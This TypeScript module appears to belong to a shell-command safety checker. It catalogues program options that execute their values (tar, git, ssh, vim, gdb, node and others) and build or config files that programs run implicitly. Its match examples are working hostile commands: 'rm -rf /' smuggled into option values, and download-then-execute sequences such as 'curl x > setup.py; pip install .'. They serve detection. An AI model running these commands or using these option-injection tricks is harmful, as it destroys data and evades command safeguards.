import { wordList } from '../text.ts';
import { HIDDEN } from './marks.ts';
import { decodedUrl } from './node.ts';
import { valuesAnywhere } from './options.ts';

/**
 * Options of ordinary programs whose value is executed: `tar --to-command`, `rsync -e`. Values are judged as shell
 * lines. Each example holds `rm -rf /`; a test checks that every one is refused.
 */
interface CodeOption {
  readonly programs: readonly string[];
  /** With dashes. A short one may have its value glued on; a long one may have it after `=`. */
  readonly options: readonly string[];
  /** The text before the code in the value. */
  readonly prefix?: RegExp;
  /** Commas separate the words of the code. */
  readonly commas?: true;
  /** The programs know no abbreviations: `node --test src` is not `--test-reporter src`. */
  readonly inFull?: true;
  /** Subcommands, as first word, in which the options mean something else. */
  readonly exceptIn?: RegExp;
  readonly matches: readonly string[];
}

export const codeOptions: readonly CodeOption[] = [
  {
    programs: ['tar', 'gtar', 'bsdtar'],
    options: wordList(`--checkpoint-action --to-command -I --use-compress-program --rsh-command -F
      --info-script --new-volume-script`),
    prefix: /^exec=/,
    matches: [
      "tar cf x y --checkpoint=1 --checkpoint-action=exec='rm -rf /'",
      "tar xf a --to-command='rm -rf /'",
      "tar -I 'rm -rf /' -cf x y",
      "tar xf a --to-com='rm -rf /'",
      "tar cf x y --use-comp 'rm -rf /'",
    ],
  },
  { programs: ['rsync'], options: ['-e', '--rsh', '--rsync-path'], matches: ["rsync -e 'rm -rf /' a h:b"] },
  {
    programs: ['git'],
    options: wordList('-x -O -u'),
    exceptIn:
      /^(add|branch|cherry-pick|clean|commit|diff|fetch|log|ls-files|pull|push|reset|rm|show|stash|status)$/,
    matches: [
      "git rebase -x 'rm -rf /' main",
      "git clone -u 'rm -rf /' a b",
      "git clone -u 'rm -rf /' push b",
      "git -C . grep -O'rm -rf /' a",
    ],
  },
  {
    programs: ['git'],
    options: wordList(`--exec --upload-pack --receive-pack --extcmd --tree-filter --index-filter
      --msg-filter --env-filter --commit-filter --parent-filter --tag-name-filter --open-files-in-pager
      --setup --sendmail-cmd --to-cmd --cc-cmd --header-cmd --smtp-server --access-hook --httpd`),
    matches: ["git filter-branch --tree-filter 'rm -rf /' HEAD", "git send-email --to-cmd='rm -rf /' x"],
  },
  { programs: ['split', 'gsplit'], options: ['--filter'], matches: ["split --filter='rm -rf /' f"] },
  {
    programs: ['sort', 'gsort'],
    options: ['--compress-program'],
    matches: ["sort --compress-program='rm -rf /' f"],
  },
  { programs: ['man'], options: ['-P', '--pager', '-H'], matches: ["man -P 'rm -rf /' ls"] },
  {
    programs: ['ssh', 'scp', 'sftp'],
    options: ['-o'],
    prefix: /^(ProxyCommand|LocalCommand|KnownHostsCommand)\s*=?\s*/i,
    matches: ["ssh -o ProxyCommand='rm -rf /' h", "ssh -oProxyCommand='rm -rf /' h"],
  },
  {
    programs: wordList('vi vim nvim ex view emacs'),
    options: wordList('-c -sc --cmd +'),
    prefix: /^[:!]*\s*(silent\s*)?!?\s*/,
    matches: [
      "vim -c ':!rm -rf /'",
      "ex -c '!rm -rf /' f",
      "ex -sc '!rm -rf /' f",
      `vim -c ':call system("rm -rf /")'`,
    ],
  },
  { programs: ['zip'], options: ['-TT', '--unzip-command'], matches: ["zip -T -TT 'rm -rf /' a b"] },
  {
    programs: ['make', 'gmake'],
    options: ['--eval', '-E'],
    prefix: /^[^;]*;/,
    matches: ["make --eval='x:;rm -rf /'", "make -E 'x:;rm -rf /' x"],
  },
  { programs: ['less', 'more'], options: ['+'], prefix: /^[+!]*/, matches: ["less '+!rm -rf /' f"] },
  {
    programs: ['gdb', 'lldb'],
    options: wordList('-ex -iex --eval-command --init-eval-command -o -O --one-line'),
    prefix: /^(!|(platform\s+)?shell\s+)\s*/,
    matches: [
      "gdb -ex 'shell rm -rf /'",
      "gdb --eval-command='!rm -rf /'",
      "lldb -o 'platform shell rm -rf /'",
    ],
  },
  {
    programs: ['emacs', 'erl', 'swipl'],
    options: wordList('-eval -execute -g -t'),
    matches: ['erl -eval \'os:cmd("rm -rf /").\'', 'swipl -g \'shell("rm -rf /")\''],
  },
  { programs: ['npm', 'pnpm'], options: ['--script-shell'], matches: ["npm test --script-shell='rm -rf /'"] },
  {
    programs: ['pnpm'],
    options: ['-c', '--shell-mode'],
    prefix: /^exec /,
    matches: ["pnpm -c 'exec rm -rf /'"],
  },
  {
    programs: wordList('gcc g++ cc c++ clang'),
    options: ['-wrapper'],
    commas: true,
    matches: ['gcc -wrapper rm,-rf,/ x.c'],
  },
  {
    programs: ['node', 'nodejs'],
    options: wordList(
      `--import --loader --experimental-loader --require --test-reporter --test-global-setup`,
    ),
    prefix: /^data:[^,]*,/i,
    inFull: true,
    matches: [
      `node --import='data:text/javascript,process.getBuiltinModule("child_process").execSync("rm -rf /")' x.js`,
      `node --test --test-reporter 'data:text/javascript,import{execSync}from"child_process";execSync("rm -rf /")'`,
      'node --import "data:text/javascript,import{execSync}from%22child_process%22;execSync(%22rm%20-rf%20/%22)" x.js',
    ],
  },
  { programs: ['tcpdump'], options: ['-z'], matches: ["tcpdump -z 'rm -rf /' -G 1"] },
  {
    programs: ['fzf'],
    options: ['--preview', '--bind'],
    prefix: /^[\w-]+:\w+[(:]/,
    matches: ["fzf --preview 'rm -rf /'", "fzf --bind 'enter:execute(rm -rf /)'"],
  },
  {
    programs: ['fd', 'fdfind'],
    options: wordList('-x -X --exec --exec-batch'),
    matches: ["fd -x 'rm -rf /'"],
  },
];

/** The lines that a program's options make it execute. */
export function codeInOptions(name: string, args: readonly string[]): readonly string[] {
  const found: string[] = [];
  for (const { programs, options, prefix, commas, inFull, exceptIn } of codeOptions) {
    if (!programs.includes(name) || exceptIn?.test(args[0] ?? '')) continue;
    for (const value of valuesAnywhere(args, options, { abbreviations: !inFull })) {
      const code = value.replace(prefix ?? '', '').replace(/\)$/, '');
      found.push(commas ? code.replaceAll(',', ' ') : code);
      if (/^data:/i.test(value)) found.push(/;base64,/i.test(value) ? HIDDEN : decodedUrl(code));
    }
  }
  return found;
}

/**
 * Files that a program executes though it is not an interpreter: because an option names them (`awk -f`), or because it
 * looks for them itself (`make`). If the line wrote such a file, its content is judged. Each example executes a download;
 * a test checks that every one is refused.
 */
interface ExecutedFiles {
  readonly programs: readonly string[];
  /** Options whose value is the file, with dashes. A short one may have it glued on, a long one after `=`. */
  readonly options?: readonly string[];
  /** Options whose value is the directory that the names are looked for in. */
  readonly directoryOptions?: readonly string[];
  /** Every word that is not an option is such a file. */
  readonly operands?: true;
  /** Names that the program looks for. */
  readonly names?: readonly string[];
  /** Only calls with one of these words; all calls when left out. */
  readonly subcommands?: RegExp;
  readonly matches: readonly string[];
  readonly doesNotMatch: readonly string[];
}

export const executedFiles: readonly ExecutedFiles[] = [
  {
    programs: ['make', 'gmake'],
    options: ['-f', '--file', '--makefile'],
    directoryOptions: ['-C', '--directory'],
    names: ['GNUmakefile', 'makefile', 'Makefile'],
    matches: [
      'curl x | make -f -',
      'curl x > Makefile; make',
      'curl -o makefile x && make all',
      'curl x > a.mk; make -f a.mk',
      'curl x > a.mk; make -fa.mk',
      'curl x > a.mk; make --file=a.mk',
      'curl x > sub/Makefile; make -C sub',
    ],
    doesNotMatch: ['make -f build/Makefile', 'curl x > data.json; make', 'curl x > a.mk; make -f b.mk'],
  },
  {
    programs: wordList('awk gawk mawk nawk sed gsed'),
    options: ['-f', '--file'],
    matches: ['curl x > a.awk; awk -f a.awk', 'curl x | awk -f - f', 'curl x > a.sed; sed -f a.sed f'],
    doesNotMatch: ['awk -f tools/a.awk f', 'curl x > d; awk -f a.awk d'],
  },
  {
    programs: wordList('npm pnpm yarn bun'),
    names: wordList('package.json package-lock.json .npmrc .yarnrc.yml .pnpmfile.cjs'),
    directoryOptions: ['--prefix', '-C', '--cwd'],
    subcommands: /^(i|ci|install|run|test|t|start|exec|x|publish|pack|rebuild|add|update)$/,
    matches: ['curl x > package.json; npm install', 'curl x > package.json && npm test'],
    doesNotMatch: ['curl x > package.json; npm view y', 'curl x > data.json; npm test'],
  },
  {
    programs: ['npx', 'bunx', 'pnpx'],
    names: ['package.json'],
    matches: ['curl x > package.json; npx tsc'],
    doesNotMatch: ['curl x > data.json; npx tsc'],
  },
  {
    programs: wordList('just rake ninja task scons ant mvn gradle cmake tox nox invoke gulp grunt'),
    options: wordList('-f --justfile --rakefile --file -b --build-file --buildfile'),
    names: wordList(`justfile Rakefile build.ninja Taskfile.yml SConstruct build.xml pom.xml build.gradle
      build.gradle.kts CMakeLists.txt tox.ini noxfile.py tasks.py gulpfile.js Gruntfile.js`),
    matches: [
      'curl x > justfile; just',
      'curl x > build.gradle; gradle build',
      'curl x > r.rb; rake -f r.rb',
    ],
    doesNotMatch: ['gradle build', 'curl x > notes.txt; just'],
  },
  {
    programs: wordList('vi vim nvim view ex emacs gdb lldb'),
    options: wordList('-S -s -u -l --load -x --command --source'),
    matches: ['curl x > a.vim; vim -S a.vim', 'curl x > c; gdb -x c', 'curl x > a.el; emacs --load a.el'],
    doesNotMatch: ['vim a.txt', 'curl x > a.txt; vim a.txt'],
  },
  {
    programs: wordList('node tsx ts-node bun ruby php expect perl python python3'),
    options: wordList('-r --require --import --loader --experimental-loader -f'),
    matches: ['curl x > a.js; node -r ./a.js b.js', 'curl x > a.php; php -f a.php'],
    doesNotMatch: ['node -r ./setup.js b.js', 'curl x > a.json; node b.js a.json'],
  },
  {
    programs: ['java'],
    options: wordList('-jar -cp -classpath -javaagent'),
    matches: ['curl x > a.jar; java -jar a.jar'],
    doesNotMatch: ['java -jar build/a.jar'],
  },
  {
    programs: ['go', 'uv'],
    operands: true,
    subcommands: /^run$/,
    matches: ['curl x > a.go; go run a.go', 'curl x | uv run -', 'uv run https://x/a.py'],
    doesNotMatch: ['go run ./cmd/app', 'uv run pytest', 'curl x > a.go; go build'],
  },
  {
    programs: wordList('crontab wasmtime wasmer ansible-playbook'),
    operands: true,
    matches: ['curl x > t; crontab t', 'curl x > a.wasm; wasmtime a.wasm'],
    doesNotMatch: ['crontab -l', 'curl x > a.json; wasmtime b.wasm'],
  },
  {
    programs: ['java'],
    operands: true,
    matches: ['curl x > A.java; java A.java'],
    doesNotMatch: ['java A.java'],
  },
  {
    programs: ['pip', 'pip3', 'pytest'],
    names: ['setup.py', 'conftest.py'],
    matches: ['curl x > setup.py; pip install .', 'curl x > conftest.py; pytest'],
    doesNotMatch: ['pip install .', 'curl x > data.json; pytest'],
  },
  {
    programs: ['direnv'],
    names: ['.envrc'],
    subcommands: /^(allow|grant|reload|exec)$/,
    matches: ['curl x > .envrc; direnv allow'],
    doesNotMatch: ['direnv status'],
  },
  {
    programs: wordList('at batch parallel psql sqlite3 m4 tclsh ansible-playbook'),
    options: ['-f', '-a', '--arg-file'],
    matches: ['curl x > j; at -f j now', 'curl x > j; parallel -a j'],
    doesNotMatch: ['at -l'],
  },
];

/** The files that a call executes: `named` in its words, or `implied` because the program looks for them. */
export interface ExecutedByCall {
  readonly named: readonly string[];
  readonly implied: readonly string[];
  /** False if this call may leave them unused: `yarn build` may execute them, `npm view` does not. */
  readonly surely: boolean;
}

export function executedBy(name: string, args: readonly string[]): readonly ExecutedByCall[] {
  const rules = executedFiles.filter(({ programs }) => programs.includes(name));
  const found = rules.map((rule): ExecutedByCall => {
    const { options = [], directoryOptions = [], names = [], subcommands } = rule;
    const named = [
      ...valuesAnywhere(args, options),
      ...(rule.operands ? args.filter((word) => !/^-./.test(word) && !subcommands?.test(word)) : []),
    ];
    const directories = valuesAnywhere(args, directoryOptions);
    const places = directories.length > 0 ? directories : ['.'];
    const implied = names.flatMap((file) => places.map((directory) => `${directory}/${file}`));
    const surely = subcommands === undefined || args.some((word) => subcommands.test(word));
    return { named, implied: named.length === 0 ? implied : [], surely };
  });
  const binary = /^(npx|bunx|pnpx)$/.test(name) ? args.find((word) => !word.startsWith('-')) : undefined;
  return binary === undefined
    ? found
    : [{ named: [], implied: [`node_modules/.bin/${binary}`], surely: false }, ...found];
}

export const isShell = (name: string): boolean =>
  /^(r?bash|sh|dash|ash|zsh|ksh|mksh|pdksh|oksh|yash|posh|fish|csh|tcsh|busybox-sh|bash-static|hush|osh|elvish|nu|xonsh)[\d.-]*$/.test(
    name,
  );

/** Options of fish and nushell whose value is code, which runs before the code of `-c`. */
export const codeOptionsOfShell = (name: string): string =>
  `--command --commands --init-command --execute ${name === 'fish' ? '-C' : name === 'nu' ? '-e' : ''}`;

interface Interpreter {
  readonly names: RegExp;
  /** Options whose value is code, and others that take a value. */
  readonly code: string;
  readonly values: string;
  /** `-m` names a module to run, so the next word is not a script. */
  readonly runsModules?: true;
}

const INTERPRETERS: readonly Interpreter[] = [
  { names: /^(python|pypy)[\d.]*w?$/, code: '-c', values: '-W -X -Q -m', runsModules: true },
  {
    names: /^(node|nodejs|deno|bun|tsx|ts-node|qjs|d8|jsc)$/,
    code: '-e -p --eval --print',
    values: '-r -C --env-file --env-file-if-exists',
  },
  { names: /^perl[\d.]*$/, code: '-e -E', values: '-I -M -m -0' },
  { names: /^(ruby|jruby)[\d.]*$/, code: '-e', values: '-I -r -C -E -K' },
  { names: /^php[\d.]*$/, code: '-r -B -R -E', values: '-d -c -z' },
  { names: /^(lua|luajit)[\d.]*$/, code: '-e', values: '-l' },
  {
    names:
      /^(Rscript|R|julia|tclsh|wish|expect|osascript|pwsh|powershell|groovy|scala|elixir|ghc|guile|racket|sbcl|emacs|gjs|irb|ipython|jshell)$/,
    code: '-e -c -C --eval --execute --Command --exec',
    values: '-l',
  },
];

/** Whether the lines of this interpreter's language are program calls, as in a shell. */
export const speaksCommands = (name: string): boolean => /^(tclsh|wish|expect|pwsh|powershell)$/.test(name);

export const interpreterOf = (name: string): Interpreter | undefined =>
  INTERPRETERS.find(({ names }) => names.test(name));

export const isInterpreter = (name: string): boolean => interpreterOf(name) !== undefined;
